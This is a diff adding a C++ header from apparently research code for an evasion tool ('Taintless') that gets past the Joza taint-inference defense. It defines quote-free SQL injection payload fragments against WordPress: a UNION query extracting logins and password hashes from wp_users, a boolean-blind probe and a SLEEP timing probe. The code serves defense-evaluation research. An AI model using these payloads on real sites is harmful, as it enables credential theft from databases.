@@ -1,0 +1,39 @@
+// Vocabulary kits: the SQL snippets that "rich" plugins ship in their own
+// source code (admin/export/maintenance queries). Taintless (the PTI
+// evasion tool) rebuilds attack payloads out of exactly these byte
+// sequences, so both the catalog (which plants them as plugin source
+// literals) and the evasion engine (which assembles payloads from them)
+// must share one definition.
+//
+// All kits are deliberately quote-free (probing with CHAR(n) instead of
+// string literals): the protected plugins run WordPress magic quotes, and
+// a payload containing quotes would be mangled before reaching the query.
+#pragma once
+
+#include <string_view>
+
+namespace joza::attack {
+
+// 2-column union extraction (rich union-based plugins project 2 columns).
+inline constexpr std::string_view kKitUnion2 =
+    "UNION SELECT login, pass FROM wp_users WHERE 1";
+
+// Boolean blind probe: <head> <ascii-code> <tail> compares the admin
+// password hash against CHAR(n), giving a binary-search oracle.
+inline constexpr std::string_view kKitBlindHead =
+    "OR (SELECT COUNT(*) FROM wp_users WHERE pass > CHAR(";
+inline constexpr std::string_view kKitBlindTail = ")) > 0";
+
+// Timing (double-blind) probe: SLEEP fires iff the comparison holds.
+inline constexpr std::string_view kKitTimeHead =
+    "OR (SELECT IF(pass > CHAR(";
+inline constexpr std::string_view kKitTimeTail =
+    "), SLEEP(2), 0) FROM wp_users WHERE id = 1)";
+
+// PHP source a rich plugin ships to put the kit into the fragment
+// vocabulary.
+std::string RichUnionSource();
+std::string RichBlindSource();
+std::string RichTimeSource();
+
+}  // namespace joza::attack
